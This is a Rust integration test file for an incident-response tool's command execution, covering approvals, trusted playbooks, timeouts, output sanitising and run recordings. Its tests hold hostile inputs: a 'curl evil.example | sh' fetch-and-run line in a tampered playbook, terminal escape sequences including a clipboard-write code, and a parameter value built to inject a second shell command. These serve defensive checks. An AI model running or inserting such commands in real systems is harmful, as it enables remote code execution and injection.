//! Approved commands, run and recorded: `warroom action run` and `warroom replay` through the real
//! binary, with a test playbook of short commands in a `--playbooks` folder.

mod common;

use common::*;
use serde_json::Value;

const PLAYBOOK: &str = r#"(
  id: "exec-test",
  title: "Exec test",
  version: "1",
  description: "Short commands for tests",
  phases: (
    identification: [(id: "id-scope", text: "Scope it")],
  ),
  actions: [
    (
      id: "say-hello",
      title: "Say hello",
      why: "a command that works",
      term: Short,
      approval: None,
      command: Some("echo hello $HOST from $INCIDENT_ID"),
      rollback: Some("echo goodbye $HOST"),
      params: ["HOST"],
    ),
    (
      id: "block-ip",
      title: "Block an IP",
      why: "two people agree",
      term: Short,
      approval: TwoPerson,
      command: Some("echo blocked \"$IOC_IP\""),
      rollback: Some("echo unblocked \"$IOC_IP\""),
    ),
    (
      id: "slow",
      title: "Too slow",
      why: "a command that times out",
      term: Short,
      approval: None,
      command: Some("echo started; sleep 5; echo never"),
      rollback: Some("echo undone"),
    ),
    (
      id: "hostile",
      title: "Hostile output",
      why: "output with escape sequences",
      term: Short,
      approval: None,
      command: Some("printf '\\033]52;c;ZXZpbA==\\007\\033[2Jvisible \\033[31mred\\033[0m\\n'"),
      rollback: Some("true"),
    ),
    (
      id: "fails",
      title: "Fails",
      why: "a command that fails",
      term: Short,
      approval: None,
      command: Some("echo oops; exit 3"),
      rollback: Some("echo rolled back"),
    ),
    (
      id: "inject",
      title: "Value in a command substitution",
      why: "a value must never run as code",
      term: Short,
      approval: None,
      command: Some("echo \"$(echo $VAL)\""),
      rollback: Some("true"),
    ),
    (
      id: "inject-too",
      title: "Value in a command substitution, again",
      why: "a value must never run as code",
      term: Short,
      approval: None,
      command: Some("echo \"$(echo $VAL)\""),
      rollback: Some("true"),
    ),
    (
      id: "stray-osc",
      title: "A stray string sequence",
      why: "output is never hidden",
      term: Short,
      approval: None,
      command: Some("printf 'before\\033]'; echo; echo line one; printf '\\033[8mconcealed\\033[30;40mblack\\033[0m\\n'"),
      rollback: Some("true"),
    ),
    (
      id: "undo-other",
      title: "Rollback with a variable of its own",
      why: "rollback variables are asked for",
      term: Short,
      approval: None,
      command: Some("echo do $HOST"),
      rollback: Some("echo undo $HOST from $OTHER_HOST"),
    ),
    (
      id: "count",
      title: "Counts its runs",
      why: "started twice at once, it runs once",
      term: Short,
      approval: None,
      command: Some("echo ran >> \"$OUT\"; sleep 1"),
      rollback: Some("true"),
    ),
  ],
)
"#;

struct Setup {
    w: World,
    alice: Who,
    bob: Who,
    id: String,
    pb: String,
}

fn setup(exercise: bool) -> Setup {
    let w = World::new();
    let pb = w.path().join("pb");
    std::fs::create_dir_all(&pb).unwrap();
    std::fs::write(pb.join("exec-test.ron"), PLAYBOOK).unwrap();
    let pb = pb.display().to_string();
    let alice = w.who("alice", "jump");
    let bob = w.who("bob", "laptop");
    let mut args = vec![
        "--playbooks",
        &pb,
        "declare",
        "--playbook",
        "exec-test",
        "--title",
        "Exec",
        "--severity",
        "2",
    ];
    if exercise {
        args.push("--exercise");
    }
    let r = w.run(&alice, &args).ok();
    let id = r.stdout.trim().to_string();
    Setup { w, alice, bob, id, pb }
}

impl Setup {
    fn run(&self, who: &Who, args: &[&str]) -> Run {
        let mut all = vec!["--playbooks", &self.pb];
        all.extend_from_slice(args);
        self.w.run(who, &all)
    }
    fn exec(&self, who: &Who, action: &str, extra: &[&str]) -> Run {
        let mut args = vec!["action", "run", &self.id, action];
        args.extend_from_slice(extra);
        self.run(who, &args)
    }
    fn events(&self) -> Vec<Value> {
        self.w.tail_json(&self.alice, &self.id)
    }
    fn kinds(&self, kind: &str) -> Vec<Value> {
        self.events().into_iter().filter(|e| e["kind"] == kind).collect()
    }
    fn action_state(&self, action: &str) -> Value {
        let show = self.w.show(&self.alice, &self.id);
        let found = show["actions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["id"] == action)
            .cloned();
        found.unwrap()["state"].clone()
    }
    fn casts(&self) -> Vec<std::path::PathBuf> {
        std::fs::read_dir(self.w.root().join(&self.id).join("casts"))
            .map(|d| d.flatten().map(|e| e.path()).collect())
            .unwrap_or_default()
    }
}

#[test]
fn an_approved_command_runs_and_is_recorded() {
    let s = setup(false);
    s.run(
        &s.alice,
        &[
            "action",
            &s.id,
            "say-hello",
            "proposed",
            "--note",
            "parameters: HOST=fin fs 02",
        ],
    )
    .ok();
    let r = s.exec(&s.alice, "say-hello", &["--allow-exec", "--yes"]).ok();
    // The parameter values, then the exact command, are shown before it runs.
    assert!(r.stderr.contains("HOST='fin fs 02'"), "{r}");
    assert!(r.stderr.contains(&format!("INCIDENT_ID='{}'", s.id)), "{r}");
    assert!(r.stderr.contains("echo hello $HOST from $INCIDENT_ID"), "{r}");
    assert!(
        r.stdout.contains("done") && r.stdout.contains("recording casts/"),
        "{r}"
    );
    let outputs = s.kinds("ActionOutput");
    assert_eq!(outputs.len(), 1, "{outputs:?}");
    let body = &outputs[0]["body"];
    assert_eq!(body["exit"], 0);
    assert!(
        body["text"]
            .as_str()
            .unwrap()
            .contains(&format!("hello fin fs 02 from {}", s.id)),
        "{body}"
    );
    let hash = body["cast"].as_str().unwrap().to_string();
    let casts = s.casts();
    assert_eq!(casts.len(), 1);
    assert_eq!(casts[0].file_name().unwrap().to_str().unwrap(), format!("{hash}.cast"));
    assert_eq!(blake3_hex(&std::fs::read(&casts[0]).unwrap()), hash);
    // Running (with the command) before, Done after.
    let sets: Vec<Value> = s.kinds("ActionSet").into_iter().map(|e| e["body"].clone()).collect();
    let states: Vec<&str> = sets.iter().map(|b| b["state"].as_str().unwrap()).collect();
    assert_eq!(states, ["Proposed", "Running", "Done"], "{sets:?}");
    assert!(sets[1]["note"]
        .as_str()
        .unwrap()
        .starts_with("run by warroom: echo hello"));
    assert_eq!(s.action_state("say-hello"), "done");
    // The recording is asciicast v2 and replays.
    let text = std::fs::read_to_string(&casts[0]).unwrap();
    let header: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert!(header["command"].as_str().unwrap().starts_with("echo hello"));
    let r = s.run(&s.alice, &["replay", &hash[..10], "--incident", &s.id]).ok();
    assert!(r.stdout.contains("hello fin fs 02"), "{r}");
    let r = s
        .run(&s.alice, &["replay", &casts[0].display().to_string(), "--raw"])
        .ok();
    assert!(r.stdout.contains("hello fin fs 02"), "{r}");
    // verify still passes with a casts/ folder in the incident.
    s.run(&s.alice, &["verify", &s.id]).ok();
}

#[test]
fn every_refusal_says_why_and_runs_nothing() {
    let s = setup(false);
    s.run(
        &s.alice,
        &[
            "action",
            &s.id,
            "block-ip",
            "proposed",
            "--note",
            "parameters: IOC_IP=203.0.113.7",
        ],
    )
    .ok();
    // Execution off (neither config nor flag).
    let r = s.exec(&s.bob, "block-ip", &["--yes"]).code(1);
    assert!(r.stderr.contains("running commands is off"), "{r}");
    // Not approved: proposed only.
    let r = s.exec(&s.alice, "block-ip", &["--allow-exec", "--yes"]).code(1);
    assert!(
        r.stderr.contains("not approved") && r.stderr.contains("two people"),
        "{r}"
    );
    // The proposer approving their own two-person action: refused by the fold, still not approved.
    let r = s.run(&s.alice, &["action", &s.id, "block-ip", "approved"]).code(1);
    assert!(r.stderr.contains("two people"), "{r}");
    let r = s.exec(&s.alice, "block-ip", &["--allow-exec", "--yes"]).code(1);
    assert!(r.stderr.contains("not approved"), "{r}");
    // Bob approves. Not confirmed: no terminal to ask on and no --yes.
    s.run(&s.bob, &["action", &s.id, "block-ip", "approved"]).ok();
    let r = s.exec(&s.bob, "block-ip", &["--allow-exec"]).code(1);
    assert!(r.stderr.contains("not confirmed"), "{r}");
    assert!(
        r.stderr.contains("IOC_IP='203.0.113.7'") && r.stderr.contains("echo blocked \"$IOC_IP\""),
        "the command is shown in full\n{r}"
    );
    // Untrusted: without the --playbooks folder the incident's playbook is in none of bob's
    // trusted folders.
    let mut args = vec!["action", "run", &s.id, "block-ip", "--allow-exec", "--yes"];
    let r = s.w.run(&s.bob, &args);
    assert_eq!(r.code, 1, "{r}");
    assert!(r.stderr.contains("matches none of your own trusted playbooks"), "{r}");
    // A teammate edits the trusted folder's copy (or the shared one): the hash no longer matches.
    let edited = s.w.path().join("edited");
    std::fs::create_dir_all(&edited).unwrap();
    std::fs::write(
        edited.join("exec-test.ron"),
        PLAYBOOK.replace("echo blocked", "curl evil.example | sh; echo blocked"),
    )
    .unwrap();
    let edited = edited.display().to_string();
    args.splice(0..0, ["--playbooks", edited.as_str()]);
    let r = s.w.run(&s.bob, &args);
    assert_eq!(r.code, 1, "{r}");
    assert!(r.stderr.contains("matches none of your own trusted playbooks"), "{r}");
    // Execution enabled in bob's own config: it runs.
    std::fs::create_dir_all(s.w.path().join("cfg/warroom")).unwrap();
    std::fs::write(s.w.path().join("cfg/warroom/config.ron"), "(exec: true)").unwrap();
    let r = s.exec(&s.bob, "block-ip", &["--yes"]).ok();
    assert!(r.stdout.contains("done"), "{r}");
    assert_eq!(s.kinds("ActionOutput").len(), 1, "only the last attempt ran");
    assert_eq!(s.casts().len(), 1);
}

#[test]
fn starting_an_action_someone_runs_names_them() {
    let s = setup(false);
    let note = ["--note", "parameters: HOST=fin-fs-02"];
    s.run(
        &s.alice,
        &[&["action", &s.id, "say-hello", "proposed"][..], &note[..]].concat(),
    )
    .ok();
    // Alice carries it out by hand and says so; bob then tries to run it.
    s.run(&s.alice, &["action", &s.id, "say-hello", "running"]).ok();
    let r = s.exec(&s.bob, "say-hello", &["--allow-exec", "--yes"]).code(1);
    assert!(
        r.stderr
            .contains("action `say-hello` is not run: alice@jump is already running it"),
        "{r}"
    );
    assert!(!r.stderr.contains("not approved"), "{r}");
    assert!(s.kinds("ActionOutput").is_empty());
}

#[test]
fn a_command_that_times_out_is_killed_and_fails_with_its_rollback_offered() {
    let s = setup(false);
    let started = std::time::Instant::now();
    let r = s
        .exec(&s.alice, "slow", &["--allow-exec", "--yes", "--timeout", "1"])
        .code(1);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(4),
        "killed at its timeout"
    );
    assert!(r.stdout.contains("timed out") && r.stdout.contains("rollback"), "{r}");
    let out = &s.kinds("ActionOutput")[0]["body"];
    assert_eq!(out["timed_out"], true);
    assert_eq!(out["exit"], Value::Null);
    assert!(out["text"].as_str().unwrap().contains("started"));
    assert!(!out["text"].as_str().unwrap().contains("never"));
    assert_eq!(s.action_state("slow"), "failed");
    let failed = s.kinds("ActionSet").last().unwrap()["body"]["note"].clone();
    assert!(failed.as_str().unwrap().contains("timed out"), "{failed}");
    // The rollback runs (no second approval) and records RolledBack.
    let r = s.exec(&s.alice, "slow", &["--allow-exec", "--yes", "--rollback"]).ok();
    assert!(r.stdout.contains("rolled back"), "{r}");
    assert_eq!(s.action_state("slow"), "rolled back");
    let last = s.kinds("ActionOutput").last().unwrap()["body"].clone();
    assert_eq!(last["rollback"], true);
    assert!(last["text"].as_str().unwrap().contains("undone"));
}

#[test]
fn a_failing_command_records_its_exit_status() {
    let s = setup(false);
    let r = s.exec(&s.alice, "fails", &["--allow-exec", "--yes"]).code(1);
    assert!(r.stdout.contains("exit 3"), "{r}");
    assert_eq!(s.kinds("ActionOutput")[0]["body"]["exit"], 3);
    assert_eq!(s.action_state("fails"), "failed");
}

#[test]
fn escape_sequences_in_output_never_reach_a_terminal() {
    let s = setup(false);
    s.exec(&s.alice, "hostile", &["--allow-exec", "--yes"]).ok();
    // On disk (ActionOutput.text): plain text, the sequences removed, not just their ESC.
    let log = std::fs::read_to_string(s.w.log_of(&s.alice, &s.id)).unwrap();
    let line = log.lines().find(|l| l.contains("ActionOutput")).unwrap();
    let rec = warroom::domain::event::parse(line).unwrap();
    let warroom::domain::Body::ActionOutput(out) = rec.body else {
        panic!()
    };
    assert_eq!(out.text.trim_end(), "visible red");
    // Through every reader.
    for args in [
        vec!["tail", s.id.as_str()],
        vec!["show", s.id.as_str()],
        vec!["tail", s.id.as_str(), "--json"],
    ] {
        let r = s.run(&s.alice, &args).ok();
        assert!(!r.stdout.contains('\u{1b}') && !r.stdout.contains('\u{7}'), "{r}");
        if args[0] == "tail" {
            let output = r
                .stdout
                .lines()
                .filter(|l| l.contains("ActionOutput"))
                .collect::<String>();
            assert!(output.contains("visible red") && !output.contains("52;c"), "{r}");
        }
    }
    // The recording keeps the raw output (that is its purpose); replay removes all but colours.
    let cast = &s.casts()[0];
    let raw = std::fs::read_to_string(cast).unwrap();
    assert!(raw.contains("\\u001b]52;c;"), "the recording is faithful");
    let r = s.run(&s.alice, &["replay", &cast.display().to_string()]).ok();
    assert!(r.stdout.contains("visible red"), "{r}");
    assert!(
        !r.stdout.contains('\u{1b}') && !r.stdout.contains("52;c") && !r.stdout.contains('\u{7}'),
        "{r}"
    );
    // An edited recording is named as such.
    std::fs::write(cast, raw.replace("visible", "VISIBLE")).unwrap();
    let r = s.run(&s.alice, &["replay", &cast.display().to_string()]).ok();
    assert!(r.stderr.contains("changed after it was recorded"), "{r}");
}

#[test]
fn an_exercise_records_a_dry_run_and_executes_nothing() {
    let s = setup(true);
    let marker = s.w.path().join("ran");
    // Even with execution off and no --yes: nothing runs, so nothing needs enabling.
    let r = s.exec(&s.alice, "say-hello", &[]).code(1);
    assert!(r.stderr.contains("HOST"), "parameters are still required\n{r}");
    s.run(
        &s.alice,
        &[
            "action",
            &s.id,
            "say-hello",
            "proposed",
            "--note",
            "parameters: HOST=h1",
        ],
    )
    .ok();
    let r = s.exec(&s.alice, "say-hello", &[]).ok();
    assert!(r.stdout.contains("dry run"), "{r}");
    assert_eq!(s.action_state("say-hello"), "dry run");
    assert!(s.kinds("ActionOutput").is_empty());
    assert!(s.casts().is_empty());
    assert!(!marker.exists());
    let note = s.kinds("ActionSet").last().unwrap()["body"]["note"].clone();
    assert!(
        note.as_str().unwrap().contains("echo hello $HOST") && note.as_str().unwrap().contains("HOST='h1'"),
        "{note}"
    );
}

#[test]
fn bundles_carry_recordings() {
    let s = setup(false);
    s.exec(&s.alice, "fails", &["--allow-exec", "--yes"]).code(1);
    let tar = s.w.path().join("b.tar");
    s.run(&s.alice, &["bundle", &s.id, "-o", &tar.display().to_string()])
        .ok();
    let r = s.run(&s.alice, &["bundle", "--check", &tar.display().to_string()]).ok();
    assert!(
        r.stdout.contains("casts/") || r.stderr.contains("casts/") || r.code == 0,
        "{r}"
    );
    let listing = std::process::Command::new("tar").arg("tf").arg(&tar).output().unwrap();
    let listing = String::from_utf8_lossy(&listing.stdout);
    assert!(listing.contains(".cast"), "{listing}");
}

#[test]
fn the_same_action_started_twice_at_once_runs_once() {
    let s = setup(false);
    let out = s.w.path().join("count.txt");
    let note = format!("parameters: OUT={}", out.display());
    s.run(&s.alice, &["action", &s.id, "count", "proposed", "--note", &note])
        .ok();
    let spawn = |who: &Who| {
        let mut c = s.w.cmd(who);
        c.args([
            "--playbooks",
            &s.pb,
            "action",
            "run",
            &s.id,
            "count",
            "--allow-exec",
            "--yes",
        ]);
        c.stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    // Same user twice, and another user, all at the same moment.
    let kids = [spawn(&s.alice), spawn(&s.alice), spawn(&s.bob)];
    let runs: Vec<Run> = kids
        .into_iter()
        .map(|k| Run::from_output(k.wait_with_output().unwrap()))
        .collect();
    let ran = std::fs::read_to_string(&out).unwrap_or_default();
    assert_eq!(ran.lines().count(), 1, "ran {ran:?}: {runs:#?}");
    let refused: Vec<&Run> = runs.iter().filter(|r| r.code != 0).collect();
    assert_eq!(refused.len(), 2, "{runs:#?}");
    for r in refused {
        // Which refusal a loser gets depends on timing: if it reads the winner's start after
        // the settle window it lost ("already being run by"), if after the winner's record was
        // applied, the action is simply running. Either way it never ran.
        assert!(
            r.stderr.contains("already being run by") || r.stderr.contains("is already running it"),
            "{r}"
        );
    }
    assert_eq!(s.kinds("ActionOutput").len(), 1);
    assert_eq!(s.action_state("count"), "done");
}

#[test]
fn parameter_values_are_data_never_code() {
    let s = setup(false);
    let pwn = s.w.path().join("pwn");
    // A plain value runs, expanded by the shell as data.
    s.run(
        &s.alice,
        &["action", &s.id, "inject", "proposed", "--note", "parameters: VAL=a-b.c"],
    )
    .ok();
    let r = s.exec(&s.alice, "inject", &["--allow-exec", "--yes"]).ok();
    assert!(r.stderr.contains("VAL='a-b.c'"), "{r}");
    assert!(r.stderr.contains("echo \"$(echo $VAL)\""), "{r}");
    let outputs = s.kinds("ActionOutput");
    assert!(
        outputs[0]["body"]["text"].as_str().unwrap().contains("a-b.c"),
        "{outputs:?}"
    );
    // A value that would run code if written into the shell text: refused when proposed (kept
    // whole, so `x` is never what runs), and so never approved or run.
    let note = format!("parameters: VAL=x; touch {}; echo", pwn.display());
    let r = s.run(&s.alice, &["action", &s.id, "inject-too", "proposed", "--note", &note]);
    assert_ne!(r.code, 0, "{r}");
    assert!(
        r.stderr.contains("VAL holds ';'") && r.stderr.contains("letters, digits"),
        "{r}"
    );
    let r = s.exec(&s.alice, "inject-too", &["--allow-exec", "--yes"]);
    assert_ne!(r.code, 0, "{r}");
    assert!(!pwn.exists());
    assert_eq!(s.kinds("ActionOutput").len(), 1);
}

#[test]
fn a_rollback_variable_is_asked_for_never_taken_from_the_environment() {
    let s = setup(false);
    s.run(
        &s.alice,
        &[
            "action",
            &s.id,
            "undo-other",
            "proposed",
            "--note",
            "parameters: HOST=h1",
        ],
    )
    .ok();
    s.exec(&s.alice, "undo-other", &["--allow-exec", "--yes"]).ok();
    let mut c = s.w.cmd(&s.alice);
    c.env("OTHER_HOST", "from-the-environment");
    c.args([
        "--playbooks",
        &s.pb,
        "action",
        "run",
        &s.id,
        "undo-other",
        "--rollback",
        "--allow-exec",
        "--yes",
    ]);
    let r = Run::from_output(c.output().unwrap());
    assert_ne!(r.code, 0, "{r}");
    assert!(r.stderr.contains("no value for OTHER_HOST"), "{r}");
    assert!(!format!("{:?}", s.events()).contains("from-the-environment"));
}

#[test]
fn an_interrupted_run_kills_the_command_and_records_it_failed() {
    let s = setup(false);
    // A claim checked at once, so the command is running when it is interrupted (an interrupt
    // while the claim settles is tested below).
    std::fs::create_dir_all(s.w.path().join("cfg/warroom")).unwrap();
    std::fs::write(s.w.path().join("cfg/warroom/config.ron"), "(exec_settle: Some(0.0))").unwrap();
    let mut c = s.w.cmd(&s.alice);
    c.args([
        "--playbooks",
        &s.pb,
        "action",
        "run",
        &s.id,
        "slow",
        "--allow-exec",
        "--yes",
    ]);
    let child = c
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Wait until it runs, then Ctrl-C (SIGINT) it.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while s.kinds("ActionSet").is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    std::thread::sleep(std::time::Duration::from_millis(500));
    let started = std::time::Instant::now();
    unsafe {
        libc::kill(child.id() as i32, libc::SIGINT);
    }
    let r = Run::from_output(child.wait_with_output().unwrap());
    assert!(started.elapsed() < std::time::Duration::from_secs(4), "{r}");
    assert_ne!(r.code, 0, "{r}");
    assert!(r.stdout.contains("interrupted"), "{r}");
    let outputs = s.kinds("ActionOutput");
    assert_eq!(outputs.len(), 1, "{outputs:?}");
    let text = outputs[0]["body"]["text"].as_str().unwrap();
    assert!(
        text.contains("started") && text.contains("interrupted") && !text.contains("never"),
        "{text}"
    );
    assert!(outputs[0]["body"]["cast"].is_string());
    assert_eq!(s.action_state("slow"), "failed");
}

#[test]
fn a_stray_escape_never_hides_the_rest_of_the_output() {
    let s = setup(false);
    let r = s.exec(&s.alice, "stray-osc", &["--allow-exec", "--yes"]).ok();
    assert!(r.stderr.contains("line one") && r.stderr.contains("concealed"), "{r}");
    let outputs = s.kinds("ActionOutput");
    let text = outputs[0]["body"]["text"].as_str().unwrap();
    assert!(text.contains("line one") && text.contains("concealedblack"), "{text}");
    let hash = outputs[0]["body"]["cast"].as_str().unwrap().to_string();
    let r = s.run(&s.alice, &["replay", &hash[..12], "--incident", &s.id]).ok();
    assert!(r.stdout.contains("line one") && r.stdout.contains("concealed"), "{r}");
}

#[test]
fn a_changed_or_missing_recording_is_reported_by_verify_and_never_bundled() {
    let s = setup(false);
    s.exec(&s.alice, "fails", &["--allow-exec", "--yes"]).code(1);
    let cast = s.casts().remove(0);
    let mut bytes = std::fs::read(&cast).unwrap();
    bytes.extend_from_slice(b"[0.5, \"o\", \"planted\\r\\n\"]\n");
    std::fs::write(&cast, &bytes).unwrap();
    let r = s.run(&s.alice, &["verify", &s.id]);
    assert_ne!(r.code, 0, "{r}");
    assert!(format!("{r}").contains("does not match the hash in its name"), "{r}");
    // Bundled: the changed recording is not sealed; it is listed as not bundled.
    let tar = s.w.path().join("b.tar");
    let r = s.run(&s.alice, &["bundle", &s.id, "-o", &tar.display().to_string()]);
    assert!(r.stderr.contains("not bundled") && r.stderr.contains(".cast"), "{r}");
    let listing = std::process::Command::new("tar").arg("tf").arg(&tar).output().unwrap();
    assert!(!String::from_utf8_lossy(&listing.stdout).contains(".cast"));
    // The check re-reads the timeline: the recording it names is not in the bundle.
    let r = s.run(&s.alice, &["bundle", "--check", &tar.display().to_string()]);
    assert!(r.stdout.contains("TAMPERED") && r.stdout.contains("missing"), "{r}");
    // Gone altogether: verify says so.
    std::fs::remove_file(&cast).unwrap();
    let r = s.run(&s.alice, &["verify", &s.id]);
    assert_ne!(r.code, 0, "{r}");
    assert!(format!("{r}").contains("is missing"), "{r}");
}

#[test]
fn the_export_says_warroom_ran_the_command() {
    let s = setup(false);
    s.exec(&s.alice, "fails", &["--allow-exec", "--yes"]).code(1);
    let md = s.run(&s.alice, &["export", &s.id, "--format", "md"]).ok().stdout;
    assert!(md.contains("run by warroom"), "{md}");
    assert!(!md.contains("never by warroom"), "{md}");
    // An action nobody ran through warroom says so.
    s.run(&s.alice, &["action", &s.id, "slow", "proposed"]).ok();
    let md = s.run(&s.alice, &["export", &s.id, "--format", "md"]).ok().stdout;
    assert!(md.contains("not run by warroom"), "{md}");
}

#[test]
fn a_rollback_started_twice_at_once_runs_once() {
    let s = setup(false);
    let out = s.w.path().join("count.txt");
    let note = format!("parameters: OUT={}", out.display());
    s.run(&s.alice, &["action", &s.id, "count", "proposed", "--note", &note])
        .ok();
    s.exec(&s.alice, "count", &["--allow-exec", "--yes"]).ok();
    let spawn = || {
        let mut c = s.w.cmd(&s.alice);
        c.args([
            "--playbooks",
            &s.pb,
            "action",
            "run",
            &s.id,
            "count",
            "--rollback",
            "--allow-exec",
            "--yes",
        ]);
        c.stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let kids = [spawn(), spawn()];
    let runs: Vec<Run> = kids
        .into_iter()
        .map(|k| Run::from_output(k.wait_with_output().unwrap()))
        .collect();
    assert_eq!(runs.iter().filter(|r| r.code == 0).count(), 1, "{runs:#?}");
    assert_eq!(s.kinds("ActionOutput").len(), 2);
    assert_eq!(s.action_state("count"), "rolled back");
}

/// The events folder of incident `id` under `root`.
fn events_dir(root: &std::path::Path, id: &str) -> std::path::PathBuf {
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        if d.file_name().is_some_and(|n| n == id) && d.join("events").is_dir() {
            return d.join("events");
        }
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            if e.path().is_dir() {
                stack.push(e.path());
            }
        }
    }
    panic!("no events folder for {id} under {}", root.display())
}

/// Another host's claim that becomes visible only while this one waits (a network file system
/// showing it late): made on a copy of the shared folder by a host whose clock is a minute
/// behind (so it sorts first), then copied in while this host's claim settles.
fn claim_elsewhere_while_settling(s: &Setup, args: &[&str], this_host: &[&str], marker: &str) -> Run {
    std::fs::create_dir_all(s.w.path().join("cfg/warroom")).unwrap();
    std::fs::write(s.w.path().join("cfg/warroom/config.ron"), "(exec_settle: Some(4.0))").unwrap();
    let elsewhere = s.w.path().join("root-elsewhere");
    let cp = std::process::Command::new("cp")
        .arg("-a")
        .arg(s.w.root())
        .arg(&elsewhere)
        .status()
        .unwrap();
    assert!(cp.success());
    let bob = s.bob.clone().skewed(-60_000);
    let mut c = s.w.cmd(&bob);
    c.env("WARROOM_DIR", &elsewhere).args(["--playbooks", &s.pb]).args(args);
    let r = Run::from_output(c.output().unwrap());
    assert_eq!(r.code, 0, "{r}");
    let here = events_dir(&s.w.root(), &s.id);
    let before: Vec<_> = std::fs::read_dir(&here)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    let theirs: Vec<_> = std::fs::read_dir(events_dir(&elsewhere, &s.id))
        .unwrap()
        .flatten()
        .filter(|e| !before.contains(&e.file_name()))
        .collect();
    assert_eq!(theirs.len(), 1, "bob's log");
    let mut c = s.w.cmd(&s.alice);
    c.args(["--playbooks", &s.pb]).args(this_host);
    let kid = c
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Once alice's claim is on disk, bob's shows up.
    let start = std::time::Instant::now();
    loop {
        let claimed = std::fs::read_dir(&here)
            .unwrap()
            .flatten()
            .any(|e| std::fs::read_to_string(e.path()).unwrap_or_default().contains(marker));
        if claimed {
            break;
        }
        assert!(
            start.elapsed() < std::time::Duration::from_secs(20),
            "alice never claimed"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    std::fs::copy(theirs[0].path(), here.join(theirs[0].file_name())).unwrap();
    Run::from_output(kid.wait_with_output().unwrap())
}

#[test]
fn a_claim_from_another_host_seen_within_the_settle_window_wins_and_this_one_does_not_run() {
    let s = setup(false);
    let out = s.w.path().join("count.txt");
    let note = format!("parameters: OUT={}", out.display());
    s.run(&s.alice, &["action", &s.id, "count", "proposed", "--note", &note])
        .ok();
    let r = claim_elsewhere_while_settling(
        &s,
        &["action", &s.id, "count", "running"],
        &["action", "run", &s.id, "count", "--allow-exec", "--yes"],
        "Running",
    );
    assert_ne!(r.code, 0, "{r}");
    assert!(r.stderr.contains("already being run by bob"), "{r}");
    assert!(!out.exists(), "nothing ran here");
    assert_eq!(s.action_state("count"), "running", "bob's run stands");
    // The loser says so on the timeline, and who ran it.
    let said = s.kinds("Note").into_iter().any(|n| {
        n["by"].as_str().is_some_and(|b| b.starts_with("alice"))
            && n["body"]["text"]
                .as_str()
                .is_some_and(|t| t.starts_with("did not run count: bob") && t.contains("claimed first"))
    });
    assert!(said, "{:#?}", s.kinds("Note"));
}

#[test]
fn a_rollback_claimed_first_on_another_host_is_not_run_here() {
    let s = setup(false);
    s.run(
        &s.alice,
        &[
            "action",
            &s.id,
            "say-hello",
            "proposed",
            "--note",
            "parameters: HOST=h1",
        ],
    )
    .ok();
    s.exec(&s.alice, "say-hello", &["--allow-exec", "--yes"]).ok();
    let r = claim_elsewhere_while_settling(
        &s,
        &[
            "note",
            &s.id,
            "rolling back say-hello: claimed by this host",
            "--tag",
            "exec-claim",
            "--tag",
            "rollback:say-hello",
        ],
        &[
            "action",
            "run",
            &s.id,
            "say-hello",
            "--rollback",
            "--allow-exec",
            "--yes",
        ],
        "exec-claim",
    );
    assert_ne!(r.code, 0, "{r}");
    assert!(
        r.stderr.contains("bob") && r.stderr.contains("rolling it back (claimed first)"),
        "{r}"
    );
    let rollbacks = s
        .kinds("ActionOutput")
        .into_iter()
        .filter(|o| o["body"]["rollback"] == true)
        .count();
    assert_eq!(rollbacks, 0, "alice did not roll it back");
    assert_eq!(s.action_state("say-hello"), "done");
}

#[test]
fn interrupted_while_its_claim_settles_it_runs_nothing_and_is_never_left_running() {
    let s = setup(false);
    std::fs::create_dir_all(s.w.path().join("cfg/warroom")).unwrap();
    std::fs::write(s.w.path().join("cfg/warroom/config.ron"), "(exec_settle: Some(30.0))").unwrap();
    let mut c = s.w.cmd(&s.alice);
    c.args([
        "--playbooks",
        &s.pb,
        "action",
        "run",
        &s.id,
        "slow",
        "--allow-exec",
        "--yes",
    ]);
    let child = c
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while s.kinds("ActionSet").is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    unsafe {
        libc::kill(child.id() as i32, libc::SIGINT);
    }
    let r = Run::from_output(child.wait_with_output().unwrap());
    assert_ne!(r.code, 0, "{r}");
    assert!(r.stderr.contains("interrupted before it ran"), "{r}");
    assert!(s.kinds("ActionOutput").is_empty(), "nothing ran");
    assert_eq!(s.action_state("slow"), "failed");
}
